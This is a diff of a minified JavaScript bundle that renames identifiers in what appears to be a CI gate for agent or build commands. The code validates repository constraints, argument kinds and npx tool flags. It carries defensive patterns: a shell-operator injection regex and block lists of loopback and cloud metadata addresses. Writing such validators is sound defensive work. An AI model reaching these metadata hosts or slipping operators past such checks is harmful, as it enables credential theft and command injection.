-."},Dz={files:0,lines:0,exempt_files:0,exempt_lines:0};function oa(t){const e=i=>({constraints:D0,problems:[{...i,pointer:[
+or correct `success_streak`"};return[finding("claim-differs",l,a)]})}const mz={level:"none",description:"Nothing was run\
+."},gz={files:0,lines:0,exempt_files:0,exempt_lines:0};function oa(t){const e=i=>({constraints:k0,problems:[{...i,pointer:[
 "constraints"]}]});if(t===void 0)return e({kind:"missing"});if(!cn(t))return e({kind:"malformed",detail:"an object"});const n=[],
-s=x0(t.max_files,n);return{constraints:{maxFiles:s??Vo,isDefaultLimit:s===void 0,forbiddenPaths:O0(t.forbidden_paths,n)},
-problems:n}}function v0(t,e){if(t===void 0)return e;const{maxFiles:n,isDefaultLimit:s}=t.maxFiles<e.maxFiles?t:e;return{
-maxFiles:n,isDefaultLimit:s,forbiddenPaths:[...new Set([...t.forbiddenPaths,...e.forbiddenPaths])]}}const D0={maxFiles:Vo,
-isDefaultLimit:!0,forbiddenPaths:[]};function x0(t,e){const n=["constraints","max_files"];if(t===void 0)e.push({kind:"mi\
+s=v0(t.max_files,n);return{constraints:{maxFiles:s??Vo,isDefaultLimit:s===void 0,forbiddenPaths:D0(t.forbidden_paths,n)},
+problems:n}}function E0(t,e){if(t===void 0)return e;const{maxFiles:n,isDefaultLimit:s}=t.maxFiles<e.maxFiles?t:e;return{
+maxFiles:n,isDefaultLimit:s,forbiddenPaths:[...new Set([...t.forbiddenPaths,...e.forbiddenPaths])]}}const k0={maxFiles:Vo,
+isDefaultLimit:!0,forbiddenPaths:[]};function v0(t,e){const n=["constraints","max_files"];if(t===void 0)e.push({kind:"mi\
 ssing",pointer:n});else{if(Number.isSafeInteger(t)&&Number(t)>0)return Number(t);e.push({kind:"malformed",pointer:n,detail:"\
-an integer greater than 0"})}}function O0(t,e){const n=["constraints","forbidden_paths"];if(t===void 0)return e.push({kind:"\
+an integer greater than 0"})}}function D0(t,e){const n=["constraints","forbidden_paths"];if(t===void 0)return e.push({kind:"\
 missing",pointer:n}),[];if(!Array.isArray(t))return e.push({kind:"malformed",pointer:n,detail:"a list of paths"}),[];const s=new Set;
 for(const[r,i]of t.entries()){const o=typeof i=="string"?xe(i):void 0;if(typeof i!="string"||!o){e.push({kind:"malformed",
-pointer:[...n,r],detail:"a path below the root of the repository"});continue}rv(i)&&e.push({kind:"pattern",pointer:[...n,
-r],detail:i}),s.add(o)}return[...s]}function xz(t,e){const{asset:n,change:s,binds:r}=t,{constraints:i}=oa(n.value.constraints),
-o=s?.before&&oa(s.before.value.constraints).constraints,a=v0(o,i),{maxFiles:c,isDefaultLimit:l}=a,u=A0(e.policy),d=r&&isChange(
+pointer:[...n,r],detail:"a path below the root of the repository"});continue}nv(i)&&e.push({kind:"pattern",pointer:[...n,
+r],detail:i}),s.add(o)}return[...s]}function Cz(t,e){const{asset:n,change:s,binds:r}=t,{constraints:i}=oa(n.value.constraints),
+o=s?.before&&oa(s.before.value.constraints).constraints,a=E0(o,i),{maxFiles:c,isDefaultLimit:l}=a,u=x0(e.policy),d=r&&isChange(
 e)?e.radius:NOTHING_TOUCHED,B=cappedSize(d,e.policy.blast_radius.counting),f=gradeFiles(d.files,c,B,u),h=f==="hard_cap_b\
 reach"?B:d,m=gradeWords(f,h,c,u);return{base:o,head:i,constraints:a,blastRadius:{...d,max_files:c,...l&&{default_limit:!0},
-severity:f,message:m}}}function A0({blast_radius:t}){const{hard_cap_files:e,hard_cap_lines:n}=t;return{files:e,lines:n}}
-const te=vt(import.meta.url)("node:path");var Zr=Te(698);const S0=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;function T0(t){
-return!S0.test(t)}function I0(t){const e=new Map;for(const i of t){if(e.has(i.path))throw aa(i.path,"occurs twice");if(!T0(
+severity:f,message:m}}}function x0({blast_radius:t}){const{hard_cap_files:e,hard_cap_lines:n}=t;return{files:e,lines:n}}
+const te=vt(import.meta.url)("node:path");var Ur=Te(698);const O0=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;function A0(t){
+return!O0.test(t)}function S0(t){const e=new Map;for(const i of t){if(e.has(i.path))throw aa(i.path,"occurs twice");if(!A0(
 i.path))throw aa(i.path,"cannot be checked out");e.set(i.path,i)}for(const{path:i,tracked:o}of[...e.values()])for(let a=ca(
 i);a!=="";a=ca(a)){const c=e.get(a)?.kind;if(c==="directory")break;if(c!==void 0)throw aa(i,`is below the ${c} ${a}`);e.
-set(a,{path:a,kind:"directory",tracked:o})}const n=[...e.values()].sort(ef);let s;e.set("",{path:"",kind:"directory",tracked:!0});
-const r=n.filter(({kind:i,tracked:o})=>o&&i!=="directory");return{stat:i=>e.get(i),list:i=>(s??=Jr(n,({path:o})=>ca(o)),
-s.get(i)??[]),files:()=>r}}function ef(t,e){return t.path<e.path?-1:t.path>e.path?1:0}function Kr(t){const e=[];for(let n=t.
-indexOf("/");n>=0;n=t.indexOf("/",n+1))e.push(t.slice(0,n));return e}function $0(t,e){return new Zr.ue("file_unreadable",
+set(a,{path:a,kind:"directory",tracked:o})}const n=[...e.values()].sort(QB);let s;e.set("",{path:"",kind:"directory",tracked:!0});
+const r=n.filter(({kind:i,tracked:o})=>o&&i!=="directory");return{stat:i=>e.get(i),list:i=>(s??=zr(n,({path:o})=>ca(o)),
+s.get(i)??[]),files:()=>r}}function QB(t,e){return t.path<e.path?-1:t.path>e.path?1:0}function Jr(t){const e=[];for(let n=t.
+indexOf("/");n>=0;n=t.indexOf("/",n+1))e.push(t.slice(0,n));return e}function T0(t,e){return new Ur.ue("file_unreadable",
 `${e} is not a regular file in ${t}`,"Check the spelling of the path. It must be a file of its own, not a directory or a\
- symlink.")}function Oz(t,e,n,s){return new GateError("file_unreadable",`${e} in ${t} has ${n} bytes; the limit is ${s}`,
-"Split the file, or move large data out of it.")}function aa(t,e){return new Zr.ue("file_unreadable",`The tree contains \
+ symlink.")}function yz(t,e,n,s){return new GateError("file_unreadable",`${e} in ${t} has ${n} bytes; the limit is ${s}`,
+"Split the file, or move large data out of it.")}function aa(t,e){return new Ur.ue("file_unreadable",`The tree contains \
 the path ${JSON.stringify(t)}, which ${e}`,"Recreate the commit with an unmodified git.")}function ca(t){return t.slice(
-0,Math.max(t.lastIndexOf("/"),0))}const R0=Qt(t=>Jr(t.files(),({path:e})=>te.posix.basename(e)));function Wr(t,e){return R0(
+0,Math.max(t.lastIndexOf("/"),0))}const I0=Qt(t=>zr(t.files(),({path:e})=>te.posix.basename(e)));function Zr(t,e){return I0(
 t).get(e)??[]}function Qt(t){const e=new WeakMap;return n=>{const s=n.original??n,{answer:r}=e.get(s)??{answer:t(s)};return e.
-set(s,{answer:r}),r}}function Js(t){const e=Qt(()=>new Map);return(n,s)=>{const r=e(n),i=r.get(s)??t(n,s);return r.set(s,
-i),i}}function tf(t,{policy:e,tree:n,base:s}){const[r]=e.stores.map(({path:a,root:c})=>({path:xe(a)??"",root:xe(c)??""})).
+set(s,{answer:r}),r}}function Us(t){const e=Qt(()=>new Map);return(n,s)=>{const r=e(n),i=r.get(s)??t(n,s);return r.set(s,
+i),i}}function ef(t,{policy:e,tree:n,base:s}){const[r]=e.stores.map(({path:a,root:c})=>({path:xe(a)??"",root:xe(c)??""})).
 filter(({path:a})=>xt(t,a)).sort((a,c)=>c.path.length-a.path.length),i=te.posix.dirname(t).replace(/^\.$/,"");if(r!==void 0)
-return{path:i,root:r.root,named:!0};const o=[s,n].find(a=>a?.stat(i)?.kind==="directory");return{path:i,root:(o&&N0(o,i)[0])??
-""}}function Az(t,e){const n=new Set([...t].map(r=>tf(r,e).root)),[s=""]=n;return n.size===1?s:""}const nf=Qt(()=>new Map);
-function N0(t,e){const n=nf(t).get(e)??F0(t,e);return nf(t).set(e,n),n}function F0(t,e){return[...new Set([e,...Kr(e).reverse(),
+return{path:i,root:r.root,named:!0};const o=[s,n].find(a=>a?.stat(i)?.kind==="directory");return{path:i,root:(o&&$0(o,i)[0])??
+""}}function wz(t,e){const n=new Set([...t].map(r=>ef(r,e).root)),[s=""]=n;return n.size===1?s:""}const tf=Qt(()=>new Map);
+function $0(t,e){const n=tf(t).get(e)??N0(t,e);return tf(t).set(e,n),n}function N0(t,e){return[...new Set([e,...Jr(e).reverse(),
 ""])].filter(s=>t.stat(te.posix.join(s,"package.json"))!==void 0)}const ua=vt(import.meta.url)("node:net");function la(t){
-return String.raw`(?:[^${t}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const L0=(()=>{const t=String.raw`(?:\d+|\$|/${la("/")}/)`,e=s=>String.
+return String.raw`(?:[^${t}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const R0=(()=>{const t=String.raw`(?:\d+|\$|/${la("/")}/)`,e=s=>String.
 raw`s[${s}]${la(s)}[${s}](?:[^${s}\\\n]|\\[^\n])*[${s}][gpiI\d]*`,n=`(?:${t}(?:,${t})?!? ?)?(?:[pdq=]|${["/","|",",","#"].
-map(e).join("|")})`;return new RegExp(`^${n}(?: ?; ?${n})*$`)})(),P0=(()=>{const t=String.raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,
+map(e).join("|")})`;return new RegExp(`^${n}(?: ?; ?${n})*$`)})(),F0=(()=>{const t=String.raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,
 e=`!? ?(?:/${la("/")}/|${t}(?: ?(?:[<>=!]=|[<>]) ?${t})?)`,n=`${e}(?: (?:&&|[|][|]) ${e})*`,s=`[{] ?print(?: ${t}(?:[, ]\
 +${t})*)? ?[}]`;return new RegExp(`^ ?(?:${n}|(?:${n} ?)?${s}) ?$`)})(),Bs={text:()=>{},choice:()=>{},node:()=>{},import:()=>{},
 module:()=>{},path:Dn,config:Dn,output:Dn,tests:Dn,code:Dn,preload:Dn,input:t=>t==="-"?"is standard input":Dn(t),argument:()=>{},
-script:t=>t.startsWith("-")?"is a flag":af(t),archive:da,destination:da,source:da,page:qr(/^(?:\[|\w[\w.+:@-]*)$/,"is no\
-t the name of a manual page"),host:t=>lf(t)?void 0:"is not a public address or host name",domain:t=>uf(t)?void 0:"is not\
- a domain name",url:t=>z0(t)?void 0:"is not a plain http or https URL",count:qr(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a numb\
-er"),package:j0,pattern:()=>{},awk:qr(P0,"is not a program that only selects and prints"),sed:qr(L0,"is not a script tha\
-t only selects and replaces")},sf=new Set(["path","config","output","tests","code","preload","input","argument","script",
-"archive","destination","source"]),rf=/[;&|<>`\r\n\0]|\$\(/;function qr(t,e){return n=>t.test(n)?void 0:e}function of(t){
-return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(t)}function af(t){return t===""?"is empty":void 0}function Dn(t){return of(t)?
-"is a URL":af(t)}function da(t){return t.startsWith("-")?"begins with a dash":!of(t)&&/^[^/]*:/.test(t)&&!/^[A-Za-z]:[\\/]/.
-test(t)?"names another host":rf.test(t)?"contains a shell operator":/[*?[\]{}]/.test(t)?"contains a wildcard":/^~|\$/.test(
-t)?"is expanded by a shell":Dn(t)}function j0(t){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
-test(t)||t.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(t)?"is a file":void 0}const M0={
-ipv4:cf("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:cf(
-"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function cf(t,e){const n=new ua.
-BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");n.addSubnet(r,Number(i),t)}return n}const G0=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
-H0=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function uf(t){const e=t.replace(/\.$/,"");if(e===""||e.length>253||G0.test(e))return!1;
-const n=e.split(".");return n.every(s=>H0.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(n.at(-1)??"")}function lf(t){if((0,ua.
-isIP)(t)===0)return uf(t);const e=(0,ua.isIPv4)(t)?"ipv4":"ipv6";return!t.includes("%")&&!M0[e].check(t,e)}function z0(t){
+script:t=>t.startsWith("-")?"is a flag":of(t),archive:da,destination:da,source:da,page:Kr(/^(?:\[|\w[\w.+:@-]*)$/,"is no\
+t the name of a manual page"),host:t=>uf(t)?void 0:"is not a public address or host name",domain:t=>cf(t)?void 0:"is not\
+ a domain name",url:t=>G0(t)?void 0:"is not a plain http or https URL",count:Kr(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a numb\
+er"),package:L0,pattern:()=>{},awk:Kr(F0,"is not a program that only selects and prints"),sed:Kr(R0,"is not a script tha\
+t only selects and replaces")},nf=new Set(["path","config","output","tests","code","preload","input","argument","script",
+"archive","destination","source"]),sf=/[;&|<>`\r\n\0]|\$\(/;function Kr(t,e){return n=>t.test(n)?void 0:e}function rf(t){
+return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(t)}function of(t){return t===""?"is empty":void 0}function Dn(t){return rf(t)?
+"is a URL":of(t)}function da(t){return t.startsWith("-")?"begins with a dash":!rf(t)&&/^[^/]*:/.test(t)&&!/^[A-Za-z]:[\\/]/.
+test(t)?"names another host":sf.test(t)?"contains a shell operator":/[*?[\]{}]/.test(t)?"contains a wildcard":/^~|\$/.test(
+t)?"is expanded by a shell":Dn(t)}function L0(t){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
+test(t)||t.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(t)?"is a file":void 0}const P0={
+ipv4:af("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:af(
+"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function af(t,e){const n=new ua.
+BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");n.addSubnet(r,Number(i),t)}return n}const j0=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
+M0=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function cf(t){const e=t.replace(/\.$/,"");if(e===""||e.length>253||j0.test(e))return!1;
+const n=e.split(".");return n.every(s=>M0.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(n.at(-1)??"")}function uf(t){if((0,ua.
+isIP)(t)===0)return cf(t);const e=(0,ua.isIPv4)(t)?"ipv4":"ipv6";return!t.includes("%")&&!P0[e].check(t,e)}function G0(t){
 const n=/^https?:\/\/(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d{1,5})?(?:[/?#][\w\-.~:/?#@!$&'()*+,;=%]*)?$/i.exec(t)?.[1];return n!==
-void 0&&URL.canParse(t)&&lf(n.replace(/^\[|\]$/g,""))}function df(t){return Bf(t,e=>{const n=/^\{(.*)\}$/.exec(e)?.[1];return n===
-void 0&&!/[{}]/.test(e)?e:ff(n??"")})}function Ba(t){return Bf(t,ff)}function Bf(t,e){const n=t.split(" ").filter(i=>i!==
-""),s=n.flatMap(i=>e(i)??[]);return s.every((i,o)=>U0(i)||o===n.length-1)&&s.length===n.length?s:void 0}function ff(t){const[
+void 0&&URL.canParse(t)&&uf(n.replace(/^\[|\]$/g,""))}function lf(t){return df(t,e=>{const n=/^\{(.*)\}$/.exec(e)?.[1];return n===
+void 0&&!/[{}]/.test(e)?e:Bf(n??"")})}function Ba(t){return df(t,Bf)}function df(t,e){const n=t.split(" ").filter(i=>i!==
+""),s=n.flatMap(i=>e(i)??[]);return s.every((i,o)=>H0(i)||o===n.length-1)&&s.length===n.length?s:void 0}function Bf(t){const[
 ,e="",n,s,r]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(t)??[];if(Object.hasOwn(Bs,e))return{kind:e,optional:r===
-"?"||r==="*",many:r==="*"||r==="...",...n!==void 0&&{range:[Number(n),Number(s)]}}}function U0(t){return typeof t!="obje\
-ct"||!(t.optional||t.many)}function hf(t){const e=t.at(-1);return typeof e!="object"?{min:t.length,max:t.length}:{min:t.
-length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:t.length}}function J0(t,e,n){const{min:s,max:r}=hf(t);if(e.length<
+"?"||r==="*",many:r==="*"||r==="...",...n!==void 0&&{range:[Number(n),Number(s)]}}}function H0(t){return typeof t!="obje\
+ct"||!(t.optional||t.many)}function ff(t){const e=t.at(-1);return typeof e!="object"?{min:t.length,max:t.length}:{min:t.
+length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:t.length}}function z0(t,e,n){const{min:s,max:r}=ff(t);if(e.length<
 s||e.length>r)return;const i=[];for(const[o,a]of e.entries()){const c=t[Math.min(o,t.length-1)];if(typeof c=="object"){const{
-kind:l}=c,u=i.some(B=>B.kind==="script"),d=Z0(c,a.text,u)??n(l,a.text);i.push({word:a,kind:l,...d&&{wrong:d}})}else if(c!==
-a.text)return}return i}function Z0({kind:t,range:e},n,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(n)&&Number(
+kind:l}=c,u=i.some(B=>B.kind==="script"),d=U0(c,a.text,u)??n(l,a.text);i.push({word:a,kind:l,...d&&{wrong:d}})}else if(c!==
+a.text)return}return i}function U0({kind:t,range:e},n,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(n)&&Number(
 n)>=i&&Number(n)<=o?void 0:`is not a number from ${i} to ${o}`}return t!=="count"&&!s&&/^-./.test(n)?"starts with a dash":
-void 0}const K0=[["?=","attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function Zs(t,e=n=>n){const n=new Map;
+void 0}const J0=[["?=","attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function Wr(t,e=n=>n){const n=new Map;
 for(const[s,r]of Object.entries(t))for(const i of r.split(/\s+/).filter(Boolean)){const[,o=i,a]=/^([^=]+=)(.+)$/s.exec(i)??
-[],[c,l]=K0.find(([B])=>o.endsWith(B))??["","none"],[u="",...d]=o.slice(0,o.length-c.length).split(",");for(const B of[u,
+[],[c,l]=J0.find(([B])=>o.endsWith(B))??["","none"],[u="",...d]=o.slice(0,o.length-c.length).split(",");for(const B of[u,
 ...d]){const f=e(B);if(n.has(f))throw new Error(`flag ${B} stands in two groups`);n.set(f,{name:u,kind:s,arity:l,...a&&{
-choices:a.split("|")}})}}return n}function pf(t){return new Map([...Zs(t)].map(([e,{kind:n}])=>[e,n]))}function fs(t){return t.
-length===1?t:t.replace(/[-_]/g,"").toLowerCase()}const Vr={tools:new Map,allowed:new Map,known:new Map,offered:()=>{}};function mf({
+choices:a.split("|")}})}}return n}function hf(t){return new Map([...Wr(t)].map(([e,{kind:n}])=>[e,n]))}function fs(t){return t.
+length===1?t:t.replace(/[-_]/g,"").toLowerCase()}const qr={tools:new Map,allowed:new Map,known:new Map,offered:()=>{}};function pf({
 data:t},e){const n=t.completes&&e.startsWith("--");return t.directory_flags.some(s=>s===e||n&&s.startsWith(e))}function un(t,e=[]){
-const{flags:n,starts:s,behind:r}=t,i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Yr([n,...e,Cf]),stops:i,
-readsBehind:t.reads_behind,handsOn:t.hands_on,data:t,places:Ba(t.operands??"path*")??[],refused:Yr([t.refused]),behind:r&&
-Yr([r.flags,Cf]),subcommands:new Map}}function W0(t,e,n={}){const{completes:s}=e,r=(c,...l)=>({...un(c,[...l,n]),completes:s,
+const{flags:n,starts:s,behind:r}=t,i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Vr([n,...e,Cf]),stops:i,
+readsBehind:t.reads_behind,handsOn:t.hands_on,data:t,places:Ba(t.operands??"path*")??[],refused:Vr([t.refused]),behind:r&&
+Vr([r.flags,Cf]),subcommands:new Map}}function Z0(t,e,n={}){const{completes:s}=e,r=(c,...l)=>({...un(c,[...l,n]),completes:s,
 subcommands:new Map}),{subcommands:i,...o}=e,a=r(o);for(const[c,l]of Object.entries(i)){const u=c.split(" "),d=(u.pop()??
-"").split(","),B=u.reduce((h,m)=>{const g=h.subcommands.get(m)??r({alone:"only-prints"},e.flags);return gf(h,m,g)},a),f=r(
-l,e.flags);for(const h of d)gf(B,h,f)}return{program:t,use:a,data:e}}function gf(t,e,n){return t.subcommands.set(e,n),t.
-stops=!0,n}function q0(t,e=[]){const n=Yr([t,{text:e.join(" ")}],r=>r.startsWith("-")?r:`${r.length===1?"-":"--"}${r}`),
-s=new Map([...n.flags].map(([r,i])=>[r,{...i,name:r}]));return{...n,flags:s,strict:!0}}const Cf={"only-prints":"help h v\
-ersion v V"};function Yr(t,e=fs){const n=new Map,s=[];for(const r of t)for(const[i,o]of Zs(r??{},e))i.endsWith("~")?s.push(
-[i.slice(0,-1),o]):n.has(i)||n.set(i,o);return{flags:n,prefixes:s}}function fa({flags:t,prefixes:e},n){return t.get(n)??
-e.find(([s])=>n.startsWith(s))?.[1]}const V0=[{programs:["rollup"],flags:{text:`
+"").split(","),B=u.reduce((h,m)=>{const g=h.subcommands.get(m)??r({alone:"only-prints"},e.flags);return mf(h,m,g)},a),f=r(
+l,e.flags);for(const h of d)mf(B,h,f)}return{program:t,use:a,data:e}}function mf(t,e,n){return t.subcommands.set(e,n),t.
+stops=!0,n}function gf(t,e=[]){const n=i=>i.startsWith("-")?i:`${i.length===1?"-":"--"}${i}`,s=Vr([t,{text:e.join(" ")}],
+n),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:n(o.name)}]));return{...s,flags:r,strict:!0}}const Cf={"only-prints":"\
+help h version v V"};function Vr(t,e=fs){const n=new Map,s=[];for(const r of t)for(const[i,o]of Wr(r??{},e))i.endsWith("\
+~")?s.push([i.slice(0,-1),o]):n.has(i)||n.set(i,o);return{flags:n,prefixes:s}}function fa({flags:t,prefixes:e},n){return t.
+get(n)??e.find(([s])=>n.startsWith(s))?.[1]}const K0=[{programs:["rollup"],flags:{text:`
         amd.~= assetFileNames= chunkFileNames= compact dynamicImportInCjs entryFileNames= esModule
         exports= extend external,e= externalImportAttributes externalLiveBindings failAfterWarnings
         filterLogs= forceExit format,f= freeze generatedCode= generatedCode.~ globals,g= input,i=
@@ -3599,7 +3599,7 @@ er-ends":"watch?"},match:["npx tsup src/x.ts --format cjs,esm --dts"]},{programs
         entry= entry-~= module-rules-loader= module-rules-use= resolve-loader-~= module-rules-parser=
       `,preload:"require,r=",output:"output-path,o= output-filename= json,j?","never-ends":"watch,w watch-~="},refused:{
 "never-ends":"serve server s watch w","only-prints":"help h info i version v configtest t","uses-network":"init create n\
-ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],Y0=[{programs:["tsc","\
+ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],W0=[{programs:["tsc","\
 tsgo","vue-tsc"],flags:{text:`
         allowArbitraryExtensions allowImportingTsExtensions allowJs allowSyntheticDefaultImports
         allowUmdGlobalAccess allowUnreachableCode allowUnusedLabels alwaysStrict
@@ -3659,7 +3659,7 @@ iti","sucrase-node","swc-node"],starts:"node",flags:{"outside-code":"eval,e= pri
 p-initial-build
       `,path:"root= source-root=",config:"config-file=",code:"plugins= presets=",output:"out-file,o= out-dir,d=","tool-w\
 rites":"copy-files,D delete-dir-on-start","reads-stdin":"filename,f=","never-ends":"watch,w"},match:["npx babel src --no\
--comments"],not_match:["npx babel src -w"]}],X0=[{programs:["eslint"],flags:{text:`
+-comments"],not_match:["npx babel src -w"]}],q0=[{programs:["eslint"],flags:{text:`
         cache cache-strategy= color concurrency= config-lookup debug env= eslintrc
         error-on-unmatched-pattern exit-on-fatal-error ext* fix-dry-run fix-type= flag* global*
         ignore ignore-pattern* inline-config max-warnings= pass-on-unpruned-suppressions
@@ -3735,7 +3735,7 @@ tes-files":"init"},match:['npx cspell --no-progress "src/**"']},{programs:["ajv"
         unicode-regexp messages inline-refs= code-~= allow-union-types allow-matching-properties
         comment loop-required= loop-enum= own-properties valid invalid
       `,tests:"d* m* r* s=",preload:"c=",output:"o?"},refused:{"only-prints":"help"},match:['npx ajv validate -s schema.\
-json -d "data/*.json"']}],Q0=[{programs:["c8"],starts:"command",flags:{text:`
+json -d "data/*.json"']}],V0=[{programs:["c8"],starts:"command",flags:{text:`
         all include,n= exclude,x= extension,e= exclude-after-remap,a skip-full
         check-coverage branches= functions= lines= statements= per-file 100 exclude-node-modules
         clean wrapper-length= omit-relative allowExternal merge-async experimental-monocart
@@ -3749,7 +3749,7 @@ json -d "data/*.json"']}],Q0=[{programs:["c8"],starts:"command",flags:{text:`
         use-spawn-wrap hook-require hook-run-in-context hook-run-in-this-context clean
       `,path:"cwd= temp-dir,t= cache-dir=",config:"nycrc-path=",code:"reporter,r= parser-plugins=",preload:"require,i=",
 output:"report-dir="},refused:{"only-prints":"report check-coverage","tool-writes":"instrument merge"},match:["npx nyc -\
--reporter=lcov mocha","npx nyc --reporter text npm test"]}],ex=[{programs:["cross-env"],starts:"command",flags:{},match:[
+-reporter=lcov mocha","npx nyc --reporter text npm test"]}],Y0=[{programs:["cross-env"],starts:"command",flags:{},match:[
 "npx cross-env PORT=3000 NODE_OPTIONS=--experimental-vm-modules jest"]},{programs:["concurrently","conc"],starts:"comman\
 d-texts",flags:{text:`
         max-processes,m= names,n= name-separator= success,s= raw,r color hide= group,g timings
@@ -3865,9 +3865,9 @@ cwd,C=",preload:"require,r="},match:["npx uvu test"]},{programs:["jasmine"],oper
 st filter= filter-path= parallel= random= seed= stop-on-failure= verbose",config:"config=",code:"helper= reporter=",preload:"\
 require=","only-prints":"enumerate list-not-applicable version,v"},refused:{"writes-files":"init examples","only-prints":"\
 help version enumerate"},match:["npx jasmine --random=true"]},{programs:["tsd"],flags:{text:"files,f= show-diff typings,\
-t="},match:["npx tsd"]}],tx=null,nx=new Set(["node","cargo","go","bun","deno","dotnet","swift","mvn","gradle"]);function Sz(t){
-const e=new Set([...tx,...yf.flatMap(({programs:n})=>n)]);return t.some((n,s)=>e.has(n)?!0:nx.has(n)&&/^(?:--)?test$/.test(
-t[s+1]??""))}const wf=pf({"outside-code":`
+t="},match:["npx tsd"]}],X0=null,Q0=new Set(["node","cargo","go","bun","deno","dotnet","swift","mvn","gradle"]);function bz(t){
+const e=new Set([...X0,...yf.flatMap(({programs:n})=>n)]);return t.some((n,s)=>e.has(n)?!0:Q0.has(n)&&/^(?:--)?test$/.test(
+t[s+1]??""))}const wf=hf({"outside-code":`
     bnr bun bunx coffee corepack cross-env-shell deno dotenv dotenv-cli dotenvx env-cmd execa foreman glob
     husky jake lage lerna lint-staged nf node npm npm-watch nps npx nx onchange
     open-cli opener per-env pm2 pnpm pnpx run-script-os run-z rush server-test shx
@@ -3881,11 +3881,11 @@ t[s+1]??""))}const wf=pf({"outside-code":`
     npm-publish patch-package prebuild-install release-it semantic-release surge tiged vercel wrangler
   `,"writes-files":`
     copyfiles cpx cpy cpy-cli del del-cli drizzle-kit knex mkdirp ncp rimraf typeorm
-  `}),bf=[...yf,...Q0,...X0,...Y0,...V0,...ex],Ks=new Map(bf.flatMap(t=>{const e=un(t);return t.programs.map(n=>[n,e])}));
-function ha(t,e){const n=Ks.has(t)?t:ma(t);return e?.get(n)??Ks.get(n)}function sx(t,e){const n=bf.find(({programs:s})=>s.
-includes(t));return n&&un(n,[e])}function pa(t){return wf.get(t)??wf.get(ma(t))}function Xr(t){return Ks.has(t)||Ks.has(
+  `}),bf=[...yf,...V0,...q0,...W0,...K0,...Y0],Js=new Map(bf.flatMap(t=>{const e=un(t);return t.programs.map(n=>[n,e])}));
+function ha(t,e){const n=Js.has(t)?t:ma(t);return e?.get(n)??Js.get(n)}function ex(t,e){const n=bf.find(({programs:s})=>s.
+includes(t));return n&&un(n,[e])}function pa(t){return wf.get(t)??wf.get(ma(t))}function Yr(t){return Js.has(t)||Js.has(
 ma(t))||pa(t)!==void 0}function ma(t){return t.replace(/^@[^/]*\//,"")}function Mn(t,e){if(e==="")return t;const n=_f.get(
-t)??new Map;_f.set(t,n);const s=n.get(e)??rx(t,e);return n.set(e,s),s}const _f=new WeakMap;function rx(t,e){const n=`${e}\
+t)??new Map;_f.set(t,n);const s=n.get(e)??tx(t,e);return n.set(e,s),s}const _f=new WeakMap;function tx(t,e){const n=`${e}\
 /`,s=a=>a===""?e:n+a,r=a=>({...a,path:a.path===e?"":a.path.slice(n.length)}),{original:i,isPending:o}=t;return{label:t.label,
 ...i&&{original:Mn(i,e)},...o&&{isPending:a=>o(s(a))},stat:a=>{const c=t.stat(s(a));return c&&r(c)},readlink:a=>t.readlink(
 s(a)),list:a=>t.list(s(a)).map(r),files:()=>[...t.files()].filter(({path:a})=>a.startsWith(n)).map(r),read:(a,c)=>t.read(
@@ -3893,33 +3893,33 @@ s(a),c)}}const Ef={"unquoted-glob":"warning","environment-assignment":"warning",
 arning",weakens:"warning","tool-runs-file":"warning","only-prints":"warning","checks-syntax-only":"warning","absolute-pa\
 th":"warning","tool-unknown":"warning","target-not-judged":"notice","dependency-not-compared":"warning","not-installed":"\
 notice","build-files-unread":"notice","target-changed":"notice","script-unreadable":"warning","target-writes":"warning",
